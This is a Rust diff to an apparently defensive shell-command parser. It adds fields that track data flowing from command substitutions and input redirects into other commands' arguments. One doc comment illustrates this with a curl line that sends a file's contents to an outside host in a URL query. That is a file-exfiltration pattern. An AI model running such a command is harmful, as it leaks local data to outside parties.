@@ -101,6 +101,13 @@ pub struct SimpleCommand {
     /// [`ParsedCommand::commands`] of the runner's own whole form (`npx eslint .`): the KG
     /// judges both, and an unknown one defers to the other.
     pub runner: Option<usize>,
+    /// This command's id as the receiver of substitutions: the output of a `$(..)` in its
+    /// words (or of the file an input redirect `< FILE` names) flows into it.
+    pub flow: Option<u32>,
+    /// The [`flow`](Self::flow) id of the command whose words the output of this command
+    /// becomes part of: it runs in a substitution in that command's words (`curl
+    /// "https://x/?k=$(cat FILE)"`), or is the read of that command's input redirect.
+    pub into: Option<u32>,
 }
 
 impl SimpleCommand {
@@ -120,6 +127,10 @@ pub struct ParsedCommand {
     /// Variables the line assigns (`X=1 cmd`, `export X=1`, `env X=1`): their values in
     /// later words are not what the environment holds.
     pub assigned: Vec<String>,
+    /// Flows between ids that are no command's own (see [`SimpleCommand::flow`]): `(a, b)`
+    /// when what flows into `a` becomes part of `b`'s words: `a` is a variable assigned a
+    /// substitution's output and `b` a command (or another variable) that expands it.
+    pub links: Vec<(u32, u32)>,
 }
 
 thread_local! {
@@ -256,6 +267,8 @@ pub fn parse_script(statements: &[Statement<'_>]) -> Option<(ParsedCommand, Vec<
         written: Vec::new(),
         wrote_build_input: false,
         vars: Vec::new(),
+        var_flows: Vec::new(),
+        next_flow: 0,
     };
     let ctx = walker::Ctx::default();
     let mut of = Vec::new();
@@ -293,6 +306,8 @@ fn parse_with(command: &str, plain: bool) -> ParsedCommand {
         written: Vec::new(),
         wrote_build_input: false,
         vars: Vec::new(),
+        var_flows: Vec::new(),
+        next_flow: 0,
     };
     walker.parse_code(command, 0, &[]);
     walker.out
